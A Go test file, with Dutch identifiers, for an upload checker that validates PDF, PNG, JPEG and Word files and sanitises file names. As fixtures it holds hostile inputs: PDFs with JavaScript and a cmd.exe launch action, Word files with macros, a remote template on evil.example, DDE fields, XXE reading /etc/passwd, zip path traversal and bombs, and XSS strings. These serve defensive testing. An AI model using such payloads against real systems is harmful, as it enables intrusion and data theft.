package opname_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"halfweg/document"
	"halfweg/document/opname"
	"halfweg/document/pdf"
	"halfweg/taal"
)

const max = 25 << 20

func echtePDF(t *testing.T) []byte {
	t.Helper()
	f, err := pdf.Render(document.Document{Title: "Verklaring", Lang: taal.NL, Blocks: []document.Block{
		document.Heading{Level: 1, Text: "Verklaring van de behandelaar"}, document.P("Wij steunen het verblijf. De woorden /JavaScript en <script> mogen in een tekst staan.")}})
	if err != nil {
		t.Fatal(err)
	}
	return f.Bytes
}

// metObject adds an object to a PDF, as an attacker would.
func metObject(t *testing.T, object string) []byte {
	return bytes.Replace(echtePDF(t), []byte("xref\n0 "), []byte("900 0 obj\n"+object+"\nendobj\nxref\n0 "), 1)
}

func objectstroom(inhoud, filter string) string {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, _ = w.Write([]byte(inhoud))
	_ = w.Close()
	return fmt.Sprintf("<</Type /ObjStm /N 1 /First 4 /Filter %s /Length %d>>\nstream\n%s\nendstream", filter, z.Len(), z.Bytes())
}

func echtePNG(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 40, 30))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func echteJPEG(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 40, 30)), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	typen = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	tekst = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Verklaring &amp; plan</w:t></w:r></w:p></w:body></w:document>`
)

type deel struct{ naam, inhoud string }

// docx makes a Word file of the usual parts and those given, which come in the
// place of one with the same name.
func docx(t *testing.T, delen ...deel) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, d := range append([]deel{{"[Content_Types].xml", typen}, {"word/document.xml", tekst}}, delen...) {
		w, err := z.Create(d.naam)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(d.inhoud)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func relatie(soort, doel string) deel {
	return deel{"word/_rels/document.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + soort + `" Target="` + doel + `" TargetMode="External"/></Relationships>`}
}

func TestGoedeBestanden(t *testing.T) {
	foto := echteJPEG(t)
	for naam, b := range map[string]struct {
		soort  opname.Soort
		inhoud []byte
	}{
		"verklaring.pdf":   {opname.PDF, echtePDF(t)},
		"VERKLARING.PDF":   {opname.PDF, echtePDF(t)},
		"zonder-soort":     {opname.PDF, echtePDF(t)},
		"met objecten.pdf": {opname.PDF, metObject(t, objectstroom("10 0 <</Type /Annot /Subtype /Link /A <</S /URI>>>>", "/FlateDecode"))},
		"scan.png":         {opname.PNG, echtePNG(t)},
		"foto.jpg":         {opname.JPEG, foto},
		"foto.jpeg":        {opname.JPEG, append(foto[:len(foto):len(foto)], foto...)}, // as telephones write them
		"brief.docx":       {opname.DOCX, docx(t, relatie("hyperlink", "https://example.nl"))},
	} {
		if s, err := opname.Keur(naam, b.inhoud, max); err != nil || s != b.soort {
			t.Errorf("%s: %s, %v", naam, s, err)
		}
	}
}

// issue 4, abuse cases 10, 11, 16 and 19, and the upload that lies about its
// type or is too big (issue 2).
func TestGeweigerdeBestanden(t *testing.T) {
	p, g, j := echtePDF(t), echtePNG(t), echteJPEG(t)
	heel := docx(t)
	for _, x := range []struct {
		wat, naam, regel string
		inhoud           []byte
	}{
		{"nothing", "a.pdf", "leeg", nil},
		{"too big", "a.pdf", "te_groot", make([]byte, max+1)},
		{"a page called PDF", "a.pdf", "type", []byte("<!DOCTYPE html><script>alert(1)</script>")},
		{"a drawing with code", "a.png", "type", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"a program", "a.docx", "type", []byte("MZ\x90\x00")},
		{"an old or locked Word file", "a.doc", "type", []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1rest")},
		{"a HEIC photo", "a.heic", "type", []byte("\x00\x00\x00\x18ftypheic")},
		{"text", "a.txt", "type", []byte("gewone tekst")},
		{"a PNG called PDF", "a.pdf", "leugen", g},
		{"a PDF called JPEG", "a.jpg", "leugen", p},
		{"a PDF called HTML", "a.html", "leugen", p},

		{"half a PDF", "a.pdf", "stuk", p[:len(p)/2]},
		{"a PDF with something behind it", "a.pdf", "stuk", append(p[:len(p):len(p)], "<html>"...)},
		{"a PDF that is a page", "a.pdf", "dubbel", bytes.Replace(p, []byte("%PDF-1.7\n"), []byte("%PDF-1.7\n%<html><script>alert(1)</script>\n"), 1)},
		{"a PDF that is an archive", "a.pdf", "dubbel", bytes.Replace(p, []byte("xref\n0 "), append(heel[:len(heel):len(heel)], "\nxref\n0 "...), 1)},
		{"a PDF with JavaScript", "a.pdf", "actief", metObject(t, "<</S /JavaScript /JS (app.alert(1))>>")},
		{"JavaScript written otherwise", "a.pdf", "actief", metObject(t, "<</S /J#61vaScr#69pt>>")},
		{"JavaScript in an object stream", "a.pdf", "actief", metObject(t, objectstroom("10 0 <</S /JavaScript>>", "/FlateDecode"))},
		{"JavaScript as if it were data", "a.pdf", "actief", metObject(t, "<</Length 60>>\nstream\n7 0 obj <</S /JavaScript>> endobj\nendstream")},
		{"an object stream nobody can read", "a.pdf", "stuk", metObject(t, objectstroom("10 0 <<>>", "[/ASCIIHexDecode /FlateDecode]"))},
		{"an object stream with a hidden filter", "a.pdf", "stuk", metObject(t, objectstroom("10 0 <<>>", "9 0 R"))},
		{"an object stream that is a bomb", "a.pdf", "stuk", metObject(t, objectstroom(strings.Repeat(" ", 201<<20), "/FlateDecode"))},
		{"a PDF that starts a program", "a.pdf", "actief", metObject(t, "<</S /Launch /F (cmd.exe)>>")},
		{"a PDF with a file in it", "a.pdf", "actief", metObject(t, "<</Type /EmbeddedFile /Length 2>>\nstream\nhi\nendstream")},
		{"a PDF form with code", "a.pdf", "actief", metObject(t, "<</XFA 4 0 R>>")},
		{"a locked PDF", "a.pdf", "versleuteld", bytes.Replace(p, []byte("trailer\n<<"), []byte("trailer\n<</Encrypt 9 0 R "), 1)},

		{"half a PNG", "a.png", "stuk", g[:len(g)-5]},
		{"a PNG with a wrong checksum", "a.png", "stuk", verander(g, 20)},
		{"a PNG with something behind it", "a.png", "dubbel", append(g[:len(g):len(g)], "PK"...)},
		{"a PNG that is a bomb", "a.png", "te_groot", groot(t)},
		{"half a JPEG", "a.jpg", "stuk", j[:len(j)/2]},
		{"a JPEG with nothing in it", "a.jpg", "stuk", []byte("\xFF\xD8\xFF\xE0\xFF\xD9")},
		{"a JPEG that is an archive", "a.jpg", "dubbel", append(j[:len(j):len(j)], heel...)},
		{"a JPEG that is a page", "a.jpg", "dubbel", metCommentaar(j, "<script>alert(1)</script>")},
		{"a JPEG that is a PDF", "a.jpg", "dubbel", metCommentaar(j, "%PDF-1.7")},

		{"an archive called DOCX", "a.docx", "type", archief(t, deel{"a.txt", "a"})},
		{"half a DOCX", "a.docx", "stuk", heel[:len(heel)-30]},
		{"a DOCX with something behind it", "a.docx", "dubbel", append(heel[:len(heel):len(heel)], "MZ"...)},
		{"a DOCX that is a PDF", "a.docx", "dubbel", archief(t, deel{"%PDF-1.7", ""}, deel{"[Content_Types].xml", typen}, deel{"word/document.xml", tekst})},
		{"a DOCX with macros", "a.docx", "actief", docx(t, deel{"word/vbaProject.bin", "x"})},
		{"macros by type only", "a.docx", "actief", docx(t, deel{"word/x.xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`})},
		{"a DOCX with a file in it", "a.docx", "actief", docx(t, deel{"word/embeddings/oleObject1.bin", "x"})},
		{"a template from outside", "a.docx", "actief", docx(t, relatie("attachedTemplate", "https://evil.example/t.dotm"))},
		{"a picture from outside", "a.docx", "actief", docx(t, relatie("image", "file://evil/share.png"))},
		{"a DDE field in pieces", "a.docx", "actief", docx(t, deel{"word/footer.xml", `<f xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></f>`})},
		{"a way out of the folder", "a.docx", "pad", docx(t, deel{"../../etc/passwd", "x"})},
		{"a way out through the middle", "a.docx", "pad", docx(t, deel{"word/../../x.xml", "<a/>"})},
		{"a Windows way out", "a.docx", "pad", docx(t, deel{`..\x.xml`, "<a/>"})},
		{"an absolute name", "a.docx", "pad", docx(t, deel{"/etc/passwd", "x"})},
		{"a part twice", "a.docx", "stuk", docx(t, deel{"word/document.xml", tekst})},
		{"a bomb of one part", "a.docx", "bom", docx(t, deel{"word/media/x.bmp", strings.Repeat("\x00", 60<<20)})},
		{"a bomb of many parts", "a.docx", "bom", docx(t, make2001()...)},
		{"an entity", "a.docx", "actief", docx(t, deel{"word/a.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`})},
		{"a billion laughs", "a.docx", "actief", docx(t, deel{"word/a.xml", `<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><a>&b;</a>`})},
		{"200,000 nested elements", "a.docx", "bom", docx(t, deel{"word/a.xml", strings.Repeat("<a>", 200_000)})},
		{"XML that does not close", "a.docx", "stuk", docx(t, deel{"word/a.xml", "<a><b></a>"})},
	} {
		t.Run(x.wat, func(t *testing.T) {
			s, err := opname.Keur(x.naam, x.inhoud, max)
			var f *opname.Fout
			if !errors.As(err, &f) || f.Regel != x.regel {
				t.Fatalf("%s, %v (%+v), want %s", s, err, f, x.regel)
			}
			for _, l := range taal.Talen() {
				if f.Probleem.In(l) == "" || f.Uitweg.In(l) == "" {
					t.Errorf("no words in %s", l)
				}
			}
		})
	}
}

func verander(b []byte, op int) []byte {
	b = bytes.Clone(b)
	b[op] ^= 0xFF
	return b
}

// groot is a PNG of few bytes and very many points.
func groot(t *testing.T) []byte {
	t.Helper()
	kop := echtePNG(t)
	copy(kop[16:], []byte{0, 0, 0x80, 0, 0, 0, 0x80, 0}) // 32,768 by 32,768
	binary.BigEndian.PutUint32(kop[29:], crc32.ChecksumIEEE(kop[12:29]))
	return kop
}

func archief(t *testing.T, delen ...deel) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, d := range delen {
		w, err := z.Create(d.naam)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write([]byte(d.inhoud))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func metCommentaar(j []byte, tekst string) []byte {
	c := append([]byte{0xFF, 0xFE, 0, byte(len(tekst) + 2)}, tekst...)
	return append(append([]byte{0xFF, 0xD8}, c...), j[2:]...)
}

func make2001() (delen []deel) {
	for i := range 2001 {
		delen = append(delen, deel{fmt.Sprintf("word/media/%d.txt", i), ""})
	}
	return delen
}

func TestNaam(t *testing.T) {
	for in, want := range map[string]string{
		"verklaring.pdf":             "verklaring.pdf",
		"Verklaring Behandelaar.PDF": "Verklaring Behandelaar.pdf",
		`C:\Users\x\scan.pdf`:        "scan.pdf",
		"../../etc/passwd":           "passwd.pdf",
		"a\u202Efdp.exe":             "afdp.exe.pdf",
		"<script>alert(1)</script>":  "script_.pdf",
		"\x00\n":                     "document.pdf",
		"":                           "document.pdf",
		"..":                         "document.pdf",
		"zorg:plan?.pdf":             "zorg_plan_.pdf",
		strings.Repeat("é", 300):     strings.Repeat("é", 100) + ".pdf",
	} {
		if got := opname.Naam(in, opname.PDF); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

func TestElkeNaamIsEenNaam(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := opname.Naam(rapid.String().Draw(t, "naam"), opname.JPEG)
		if strings.ContainsAny(n, "/\\\x00\n\"") || !strings.HasSuffix(n, ".jpg") || strings.HasPrefix(n, ".") || len([]rune(n)) > 110 {
			t.Fatalf("%q", n)
		}
	})
}

// No content, however broken, makes the check fail otherwise than by saying no.
func FuzzKeur(f *testing.F) {
	f.Add("a.pdf", []byte("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n\nendstream startxref\n0\n%%EOF"))
	f.Add("a.docx", []byte("PK\x03\x04"))
	f.Add("a.png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x00IEND\xae\x42\x60\x82"))
	f.Add("a.jpg", []byte("\xFF\xD8\xFF\xD9"))
	f.Fuzz(func(t *testing.T, naam string, b []byte) {
		s, err := opname.Keur(naam, b, 1<<20)
		if (s == "") == (err == nil) {
			t.Fatalf("%q, %v", s, err)
		}
	})
}
